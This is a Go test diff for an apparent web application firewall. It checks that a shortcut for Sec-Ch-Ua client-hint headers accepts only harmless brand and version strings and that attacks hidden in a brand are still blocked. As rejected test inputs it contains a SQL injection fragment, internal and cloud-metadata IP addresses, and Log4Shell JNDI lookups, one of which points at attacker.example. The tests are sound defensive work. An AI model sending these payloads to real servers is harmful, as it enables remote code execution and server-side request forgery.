@@ -109,3 +109,66 @@ func FuzzNegotiationHeaderClean(f *testing.F) {
 		}
 	})
 }
+
+// TestClientHintVocabularyClean: every brand, platform and GREASE spelling
+// the client-hint shortcut accepts is one the detectors, at paranoia 4,
+// find nothing in; attacks in a brand are still inspected.
+func TestClientHintVocabularyClean(t *testing.T) {
+	in, err := NewInspector(InspectorOptions{Paranoia: 4})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var accepted []string
+	for w := range clientHintNames {
+		accepted = append(accepted, w)
+	}
+	for i := 0; i < len(greaseBytes); i++ {
+		for j := 0; j < len(greaseBytes); j++ {
+			g := "Not" + greaseBytes[i:i+1] + "A" + greaseBytes[j:j+1] + "Brand"
+			accepted = append(accepted, g, " "+g)
+		}
+	}
+	accepted = append(accepted, "8", "99", "120", "120.0.6099.130", "99.0.4844.51", "99999")
+	for _, s := range accepted {
+		if !clientHintClean(s) {
+			t.Errorf("clientHintClean(%q) = false", s)
+			continue
+		}
+		for _, name := range []string{"Sec-Ch-Ua", "Sec-Ch-Ua-Full-Version-List", "Sec-Ch-Ua-Platform"} {
+			if hits := in.InspectValue(nil, KindHeaderValue, name, s); len(hits) > 0 {
+				t.Errorf("%s item %q skips the detectors but %v finds it", name, s, hits)
+			}
+		}
+	}
+	for _, s := range []string{"Chromium' OR '1'='1", "NotXABrand", "Not<A>Brand", "1.2.3.4.5", "123456", "1..2", "127.0.0.1", "169.254.169.254", "127.1", "10.0.0", "2130706433", "15.0.0", "${jndi:ldap://x.example/a}", "chromium"} {
+		if clientHintClean(s) {
+			t.Errorf("clientHintClean(%q) = true", s)
+		}
+	}
+	e := mustEngine(t, Config{})
+	r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
+	r.Header.Set("Sec-Ch-Ua", `"Chromium";v="120", "${jndi:ldap://attacker.example/a}";v="1"`)
+	if d, err := e.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
+		t.Errorf("attack in a client-hint brand: not blocked (%v)", err)
+	}
+}
+
+// FuzzClientHintVersionClean: the detectors, at paranoia 4, find nothing
+// in any client-hint item the shortcut accepts.
+func FuzzClientHintVersionClean(f *testing.F) {
+	for _, s := range []string{"8", "120.0.6099.130", "127.0.0.1", "0.0.0.0", "99999.99999.99999.99999", "Not)A;Brand"} {
+		f.Add(s)
+	}
+	in, err := NewInspector(InspectorOptions{Paranoia: 4})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if !clientHintClean(s) {
+			return
+		}
+		if hits := in.InspectValue(nil, KindHeaderValue, "Sec-Ch-Ua", s); len(hits) > 0 {
+			t.Fatalf("%q skips the detectors but %v finds it", s, hits)
+		}
+	})
+}
